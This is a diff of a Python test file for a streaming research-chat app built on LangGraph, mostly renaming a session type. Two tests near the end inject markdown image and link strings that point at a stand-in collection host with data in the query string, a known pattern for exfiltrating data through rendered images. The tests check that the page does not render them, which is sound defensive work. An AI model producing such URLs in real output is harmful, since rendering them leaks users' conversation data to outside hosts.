@@ -11,8 +11,8 @@ from langchain_core.messages import AIMessageChunk, HumanMessage
 from langchain_core.outputs import ChatGenerationChunk
 from langgraph.types import Command
 
-from graph.session import Session
-from nodes.streaming import HIDDEN
+from calls.streaming import HIDDEN
+from graph.session import ThreadSession
 from tests.chat_page import ChatPage, watched
 from tests.conftest import make
 from tests.fake_model import FakeModel, Script
@@ -66,7 +66,7 @@ def scripted(script: Script) -> Script:
 
 
 async def shown(
-    thread: Session, choices: dict[str, object], given: Any = None, **more: Any
+    thread: ThreadSession, choices: dict[str, object], given: Any = None, **more: Any
 ) -> ChatPage:
     """Return what a chat page has shown of a run."""
     asked = given or {"messages": [HumanMessage(QUESTION, id="h1")]}
@@ -84,7 +84,7 @@ async def _flat(stream: AsyncIterator[Any]) -> AsyncIterator[Any]:
 
 @pytest.mark.parametrize("subgraphs", [True, False])
 async def test_no_prompt_and_no_page_is_ever_taken_for_the_conversation(
-    thread: Session, choices: dict[str, object], scripted: Script, subgraphs: bool
+    thread: ThreadSession, choices: dict[str, object], scripted: Script, subgraphs: bool
 ):
     page = await shown(thread, choices, subgraphs=subgraphs)
 
@@ -99,7 +99,7 @@ async def test_no_prompt_and_no_page_is_ever_taken_for_the_conversation(
 
 @pytest.mark.parametrize("subgraphs", [True, False])
 async def test_the_question_never_leaves_the_screen(
-    thread: Session, choices: dict[str, object], scripted: Script, subgraphs: bool
+    thread: ThreadSession, choices: dict[str, object], scripted: Script, subgraphs: bool
 ):
     page = await shown(thread, choices, subgraphs=subgraphs)
 
@@ -109,7 +109,7 @@ async def test_the_question_never_leaves_the_screen(
 
 @pytest.mark.parametrize("subgraphs", [True, False])
 async def test_the_report_is_read_while_it_is_written_and_the_checked_one_takes_its_place(
-    thread: Session, choices: dict[str, object], scripted: Script, subgraphs: bool
+    thread: ThreadSession, choices: dict[str, object], scripted: Script, subgraphs: bool
 ):
     page = await shown(thread, choices, subgraphs=subgraphs)
 
@@ -125,7 +125,7 @@ async def test_the_report_is_read_while_it_is_written_and_the_checked_one_takes_
 
 @pytest.mark.parametrize("subgraphs", [True, False])
 async def test_every_stage_says_how_far_it_is_and_the_report_stands_alone_in_the_end(
-    thread: Session, choices: dict[str, object], scripted: Script, subgraphs: bool
+    thread: ThreadSession, choices: dict[str, object], scripted: Script, subgraphs: bool
 ):
     page = await shown(thread, choices, subgraphs=subgraphs)
 
@@ -142,7 +142,7 @@ async def test_every_stage_says_how_far_it_is_and_the_report_stands_alone_in_the
 
 
 async def test_progress_speaks_the_language_of_the_run(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     page = await shown(thread, choices, language="zh")
 
@@ -151,7 +151,7 @@ async def test_progress_speaks_the_language_of_the_run(
 
 
 async def test_a_plan_that_waits_is_the_last_message_of_the_assistant(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     page = await shown(thread, choices, auto_accept=False)
 
@@ -163,7 +163,7 @@ async def test_a_plan_that_waits_is_the_last_message_of_the_assistant(
 
 
 async def test_another_plan_takes_the_place_of_the_first_one(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     scripted.on("Draft", draft("waggle dance"), draft("the queen"))
     await shown(thread, choices, auto_accept=False)
@@ -178,7 +178,7 @@ async def test_another_plan_takes_the_place_of_the_first_one(
 
 
 async def test_the_plan_gives_way_to_the_report(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     await shown(thread, choices, auto_accept=False)
 
@@ -191,7 +191,7 @@ async def test_the_plan_gives_way_to_the_report(
 
 
 async def test_a_follow_up_shows_its_plan_below_the_first_report(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     await shown(thread, choices)
 
@@ -203,7 +203,7 @@ async def test_a_follow_up_shows_its_plan_below_the_first_report(
 
 
 async def test_a_question_asked_instead_of_a_decision_takes_the_plan_away(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     await shown(thread, choices, auto_accept=False)
 
@@ -214,7 +214,7 @@ async def test_a_question_asked_instead_of_a_decision_takes_the_plan_away(
 
 
 async def test_what_a_model_thinks_aloud_is_not_shown(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     scripted.on("reporter", f"<think>Hm, quorvix < 3?</think>{SAID}")
 
@@ -224,7 +224,7 @@ async def test_what_a_model_thinks_aloud_is_not_shown(
     assert "[1]" in page.screens[-1][-1][1]
 
 
-async def reloaded(thread: Session) -> tuple[list[tuple[str, str]], int]:
+async def reloaded(thread: ThreadSession) -> tuple[list[tuple[str, str]], int]:
     """Return the conversation that a page shows when it is opened anew, and what waits below it."""
     state = await thread.current()
     said = [(one.type, str(one.text)) for one in state.values["messages"]]
@@ -232,7 +232,7 @@ async def reloaded(thread: Session) -> tuple[list[tuple[str, str]], int]:
 
 
 async def test_a_session_reads_the_same_after_every_reload(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     scripted.on("Draft", draft("waggle dance"), draft("waggle run"), draft("dance"))
     rejected = Command(resume={"decisions": [{"type": "reject", "message": "the queen"}]})
@@ -255,7 +255,7 @@ async def test_a_session_reads_the_same_after_every_reload(
 
 
 async def test_no_picture_and_no_address_is_shown_while_a_report_is_written(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     live = "![dance](https://collect.test/p.png?d=Zorblatt) and [more](//collect.test) at"
     scripted.on("reporter", f"{SAID} {live} https://collect.test/q. {SAID}")
@@ -267,7 +267,7 @@ async def test_no_picture_and_no_address_is_shown_while_a_report_is_written(
 
 
 async def test_a_plan_that_waits_draws_no_picture(
-    thread: Session, choices: dict[str, object], scripted: Script
+    thread: ThreadSession, choices: dict[str, object], scripted: Script
 ):
     plan = draft("waggle dance")
     plan["steps"][0]["description"] = "![](https://collect.test/p.png?d=Zorblatt)"
